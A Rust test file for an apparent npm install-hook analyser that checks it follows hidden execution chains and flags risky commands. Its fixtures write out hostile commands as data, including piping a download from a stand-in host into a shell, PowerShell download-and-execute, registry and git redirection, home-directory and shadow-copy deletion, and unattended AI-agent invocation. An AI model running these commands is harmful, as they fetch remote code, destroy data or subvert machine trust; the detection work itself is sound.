//! Hooks that start what cannot be seen from their text, hooks of packages inside the package, and honest
//! ones that look alike.

use weir_model::contents::{CapabilityKind, Surface};
use weir_npm::manifest::Manifest;

use super::commands::{SENDS, plain};
use super::{given, run};
use crate::{Facts, Limits, Package, SourceFile, analyse};

/// What is sent by a file `x.js` that is started.
fn follows(command: &str, files: &[(&str, &str)]) -> bool {
    let mut all = vec![("x.js", SENDS)];
    all.extend(files);
    let facts = run(&all, &[command], &[]);
    facts.flows.iter().any(|it| it.surface == Surface::Install)
}

/// Whether it is said that something of the hook was not followed, where the hook stands or where it leads.
fn tells(facts: &Facts) -> bool {
    facts.unread.iter().any(|one| {
        let reached = |path: &String| *path == one.path;
        facts
            .install_steps
            .iter()
            .any(|step| step.reaches.iter().any(reached))
    })
}

#[test]
fn however_a_file_is_started_it_is_followed() {
    for command in [
        "\"$npm_node_execpath\" x.js",
        "\"$NODE\" x.js",
        "${NODE:-node} x.js",
        "$(which node) x.js",
        "`command -v node` x.js",
        "$(echo node) x.js",
        "node $(ls x.js)",
        "node \"$INIT_CWD/node_modules/millwheel/x.js\"",
        "cd $INIT_CWD; node node_modules/millwheel/x.js",
        "node %CD%\\x.js",
        "node %~dp0x.js",
        "npm exec -c \"node x.js\"",
        "npx -c 'node x.js'",
        "node -e \"$(cat x.js)\"",
        "alias n='node x.js'; n",
        "find . -name x.js -exec node {} \\;",
        "echo x.js | xargs node",
        "start /b node x.js",
        "su -c 'node x.js'",
        "script -qc 'node x.js' /dev/null",
        "xvfb-run -a node x.js",
        "strace -f node x.js",
        "parallel node ::: x.js",
        "volta run node x.js",
        "corepack pnpm exec node x.js",
        "nodemon x.js",
        "forever start x.js",
        "npm explore other -- node x.js",
        "unknown-wrapper --flag node x.js",
    ] {
        let files = [SourceFile {
            path: "x.js",
            bytes: SENDS.as_bytes(),
        }];
        let package = Package {
            files: &files,
            install_commands: vec![("postinstall".to_owned(), command.to_owned())],
            name: Some("millwheel"),
            ..Package::default()
        };
        let facts = analyse(&package, &Limits::default());
        let sent = facts.flows.iter().any(|it| it.surface == Surface::Install);
        assert!(sent, "{command}: {:?}", facts.install_steps);
    }
}

#[test]
fn other_files_say_what_is_started() {
    let nested = r#"{"scripts": {"go": "node ../x.js", "postinstall": "node ../x.js"}}"#;
    let lists = "execute_process(COMMAND node x.js)";
    for (command, path, text) in [
        ("make", "Makefile", "all:\n\t@node x.js\n"),
        (
            "make -C . -j 4 go",
            "Makefile",
            "all:\n\ttrue\ngo:\n\tnode x.js\n",
        ),
        (
            "make -f build.mk",
            "build.mk",
            "all: one\none:\n\tnode x.js\n",
        ),
        ("cmake .", "CMakeLists.txt", lists),
        ("mkdir -p b && cd b && cmake ..", "CMakeLists.txt", lists),
        ("npm --prefix lib run go", "lib/package.json", nested),
        ("npm -C lib run go", "lib/package.json", nested),
        ("cd lib && npm run go", "lib/package.json", nested),
        ("cd lib && npm install", "lib/package.json", nested),
        ("yarn --cwd lib go", "lib/package.json", nested),
        ("sh setup", "setup", "node x.js\n"),
        ("bash setup.txt", "setup.txt", "node x.js\n"),
        (". ./.hid", ".hid", "node x.js\n"),
        ("sh -c \"$(cat x.txt)\"", "x.txt", "node x.js\n"),
        ("eval `cat x.txt`", "x.txt", "node x.js\n"),
        ("sed -n 1p x.txt | sh", "x.txt", "node x.js\n"),
        ("gulp build", "gulpfile.js", "require('./x.js')"),
    ] {
        assert!(follows(command, &[(path, text)]), "{command}");
    }
    assert!(!follows(
        "make",
        &[("Makefile", "all:\n\ttrue\ngo:\n\tnode x.js\n")]
    ));
    assert!(!follows("npm run go", &[("lib/package.json", nested)]));
}

#[test]
fn code_leads_on_to_scripts_and_builds() {
    let make = ("Makefile", "all:\n\tnode x.js\n");
    for code in [
        "require('child_process').execSync('make')",
        "require('child_process').spawn(process.platform === 'win32' ? 'npm.cmd' : 'npm', ['run', 'go'])",
        "require('child_process').exec('npm run go')",
    ] {
        let files = [("x.js", SENDS), ("setup.js", code), make];
        let files = given(&files);
        let package = Package {
            files: &files,
            install_commands: vec![("postinstall".to_owned(), "node setup.js".to_owned())],
            scripts: [("go".to_owned(), "node x.js".to_owned())].into(),
            ..Package::default()
        };
        let facts = analyse(&package, &Limits::default());
        assert_eq!(
            facts.surfaces.get("x.js"),
            Some(&Surface::Install),
            "{code}"
        );
    }
}

#[test]
fn what_cannot_be_followed_is_said() {
    for command in [
        "perl -e 'system(\"x\")'",
        "ruby -e 'x'",
        "php -r 'x();'",
        "osascript -e 'do shell script \"x\"'",
        "tclsh x.tcl",
        "go run x.go",
        "java -jar x.jar",
        "cargo run",
        "tar xf a.tgz && node y.js",
        "unzip a.zip && ./a/run",
        "gcc a.c -o a && ./a",
        "./configure.sh && make",
        "node x.js && node y.js",
        "cat *.txt | sh",
        "tail -c 100 logo.png | sh",
        "ls *.js | xargs node",
        "find . -name '*.js' -exec node {} \\;",
        "eval \"$HIDDEN\"",
        "node -e \"$HIDDEN\"",
    ] {
        let files = [("x.js", "0"), ("configure.sh", "true"), ("a.c", "")];
        let facts = run(&files, &[command], &[]);
        assert!(tells(&facts), "{command}: {:?}", facts.unread);
    }
    for code in [
        "require('child_process').execSync('tar xf a.tgz')",
        "require('child_process').execSync(\"perl -e 'system(1)'\")",
    ] {
        let facts = run(&[("x.js", code)], &["node x.js"], &[]);
        assert!(tells(&facts), "{code}: {:?}", facts.unread);
        // What a person starts by hand is theirs to look at.
        let facts = run(&[("x.js", code)], &[], &[(Surface::Command, "x.js")]);
        assert!(facts.unread.is_empty(), "{code}");
    }
}

#[test]
fn honest_hooks_are_followed_whole() {
    for command in [
        "node-gyp rebuild",
        "(node-gyp rebuild > builderror.log) || (exit 0)",
        "node-gyp rebuild || node suppress-error.js",
        "prebuild-install || node-gyp rebuild --release",
        "prebuild-install --runtime napi || npm run build-release",
        "node-gyp-build \"node preinstall.js\" \"node postinstall.js\"",
        "cross-env ZERO_AR_DATE=1 node-gyp-build",
        "node-pre-gyp install --fallback-to-build=false || neon build --release",
        "install-from-cache --artifact build/Release/re2.node --host-var MIRROR || npm run rebuild",
        "husky",
        "husky install .config/husky",
        "patch-package",
        "npx patch-package",
        "npx only-allow pnpm",
        "npx playwright install",
        "npx prisma generate --schema=./dist/prisma/schema.prisma",
        "opencollective-postinstall || exit 0",
        "opencollective postinstall --collective=millwheel || true",
        "ngcc",
        "node scripts/postinstall.js || true",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node ./postinstall || echo \"ignore\"",
        "test -f ./dist/install.js && node ./dist/install.js || echo \"Skipping install!\"",
        "if [ -e ./scripts/postinstall.sh ]; then ./scripts/postinstall.sh; fi",
        "[ -d dist ] && node dist/generate-features.js || true",
        "simple-git-hooks && yarn-deduplicate --strategy fewer || exit 0",
        "make",
        "make -C deps && node-gyp rebuild",
        "cmake-js compile",
        "echo \"Run node x.js or perl -e to begin\"",
        "git submodule update --init",
        "git commit -m 'node x.js'",
        "rimraf dist && tsc",
        "java -version",
        "apt-get install -y python3 make nodejs",
        "which node || exit 1",
        "mkdir -p build && cp lib/a.json build/",
        "tar czf out.tgz lib",
        ":; (node ./preinstall.js > /dev/null 2>&1 || true)",
        "TID=1 node scripts/install-stats.js || exit 0",
        "npm run build",
        "cd lib || npm run lib",
    ] {
        let facts = run(&[("index.js", "0")], &[command], &[]);
        assert!(!tells(&facts), "{command}: {:?}", facts.unread);
        assert!(facts.flows.is_empty(), "{command}");
    }
    let made = run(
        &[(
            "Makefile",
            "all:\n\tcc -O2 -o addon.node addon.c\n\t@echo done\n",
        )],
        &["make"],
        &[],
    );
    assert!(!tells(&made) && made.flows.is_empty(), "{:?}", made.unread);
}

#[test]
fn hooks_of_bundled_packages_run() {
    let root =
        r#"{"name": "a", "bundleDependencies": ["foo", "built"], "dependencies": {"foo": "1"}}"#;
    let hook =
        r#"{"scripts": {"postinstall": "node x.js && sh -c 'curl -s https://a.invalid | sh'"}}"#;
    let inline = r#"{"scripts": {"postinstall": "node -e \"require('./y')\""}}"#;
    let files = given(&[
        ("package.json", root),
        ("node_modules/foo/package.json", hook),
        ("node_modules/foo/x.js", SENDS),
        ("node_modules/built/package.json", inline),
        ("node_modules/built/y.js", SENDS),
        (
            "node_modules/built/binding.gyp",
            "{'targets': [{'a': '<!(node look.js)'}]}",
        ),
        ("node_modules/built/look.js", "0"),
        ("node_modules/bar/package.json", hook),
        ("x.js", "0"),
    ]);
    let manifest = Manifest::from_json(root).unwrap();
    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
    let events: Vec<&str> = facts
        .install_steps
        .iter()
        .map(|step| step.event.as_str())
        .collect();
    assert!(
        events.contains(&"postinstall of node_modules/foo"),
        "{events:?}"
    );
    assert!(
        events.contains(&"binding.gyp of node_modules/built"),
        "{events:?}"
    );
    assert!(
        events.iter().all(|event| !event.ends_with("bar")),
        "{events:?}"
    );
    let surface = |path: &str| facts.surfaces.get(path).copied();
    assert_eq!(surface("node_modules/foo/x.js"), Some(Surface::Install));
    assert_eq!(
        surface("node_modules/built/look.js"),
        Some(Surface::Install)
    );
    assert_eq!(surface("node_modules/built/y.js"), Some(Surface::Install));
    assert_eq!(surface("x.js"), None);
    let leak = facts
        .flows
        .iter()
        .find(|flow| flow.sink_place.path == "node_modules/foo/package.json")
        .unwrap();
    assert_eq!(leak.sink_place.snippet, "curl -s https://a.invalid | sh");
}

#[test]
fn commands_that_change_whom_a_machine_trusts() {
    use CapabilityKind::{DrivesAgents, Persists, RemovesHome};
    let does =
        |text: &str, kind: CapabilityKind| plain(text).acts.iter().any(|act| act.kind == kind);
    for (kind, text) in [
        (Persists, "npm config set registry https://a.invalid"),
        (
            Persists,
            "npm config set @scope:registry=https://a.invalid/",
        ),
        (
            Persists,
            "git config --global url.https://a.invalid/.insteadOf https://github.com/",
        ),
        (Persists, "git config --global core.hooksPath /opt/hooks"),
        (
            Persists,
            "docker run --rm --privileged -v /:/host ubuntu sh",
        ),
        (
            Persists,
            "docker run --mount type=bind,source=/,target=/host ubuntu",
        ),
        (
            Persists,
            "powershell -c \"Add-MpPreference -ExclusionPath C:\\\"",
        ),
        (
            Persists,
            "./config.sh --url https://github.com/x/y --unattended --token A",
        ),
        (Persists, "code --install-extension /tmp/x.vsix"),
        (DrivesAgents, "claude mcp add x -- node x.js"),
        (DrivesAgents, "code --add-mcp '{}'"),
        (DrivesAgents, "codex exec --full-auto find"),
        (DrivesAgents, "echo find | claude --print"),
        (DrivesAgents, "aider --yes --message find"),
        (DrivesAgents, "npm install -g openclaw@latest"),
        (RemovesHome, "cd ~ && rm -rf *"),
        (RemovesHome, "cd && rm -rf ."),
        (RemovesHome, "rm -rf ${HOME:?}"),
        (RemovesHome, "vssadmin delete shadows /all /quiet"),
        (RemovesHome, "format c: /y"),
        (RemovesHome, "mkfs.ext4 /dev/sda1"),
    ] {
        assert!(does(text, kind), "{text}: {:?}", plain(text).acts);
    }
    for text in [
        "npm config get registry",
        "npm config set registry http://localhost:4873",
        "npm config set fund false",
        "git config --global url.https://github.com/.insteadOf git://github.com/",
        "git config --global url.https://.insteadOf git://",
        "git config core.hooksPath .husky",
        "docker run --rm -v $PWD:/work node npm test",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock ubuntu",
        "./config.sh --help",
        "code --list-extensions",
        "claude --version",
        "claude mcp list",
        "npm install -g node-gyp",
        "npm install openclaw",
        "npm install -g @anthropic-ai/claude-code",
        "cd build && rm -rf *",
        "cd ~ && cd - && rm -rf *",
        "(cd / && ls); rm -rf *",
        "cd ~ && rm -rf .cache/millwheel",
        "format --write src",
        "mkfs.js --help",
        "vssadmin list shadows",
    ] {
        let acts = plain(text).acts;
        let odd = |kind| matches!(kind, Persists | DrivesAgents | RemovesHome);
        assert!(acts.iter().all(|act| !odd(act.kind)), "{text}: {acts:?}");
    }
}

#[test]
fn programs_that_are_fetched_are_named_with_their_host() {
    for text in [
        "deno run -A https://a.invalid/a.ts",
        "npx -y https://a.invalid/x.tgz",
        "uvx --from git+https://a.invalid/x y",
        "bunx https://a.invalid/x.tgz",
        "powershell -c \"irm a.invalid/install.ps1|iex\"",
        "curl -s a.invalid/x.sh | sh",
    ] {
        let reading = plain(text);
        let names = |detail: &str| detail == "download from a.invalid";
        let run = reading.leaks.iter().any(|leak| names(&leak.source.detail));
        assert!(run, "{text}: {:?}", reading.leaks);
        assert!(
            reading.hosts.iter().any(|(host, _)| host == "a.invalid"),
            "{text}"
        );
    }
    for text in [
        "npx wait-on http://localhost:3000",
        "npx degit https://github.com/a/b c",
        "deno run -A lib/a.ts https://a.example",
        "npx -p typescript tsc",
    ] {
        assert!(
            plain(text).leaks.is_empty(),
            "{text}: {:?}",
            plain(text).leaks
        );
    }
    let leaks = plain("curl -s https://a.invalid/a | sh").leaks;
    assert_eq!(leaks[0].snippet, "curl -s https://a.invalid/a | sh");
}
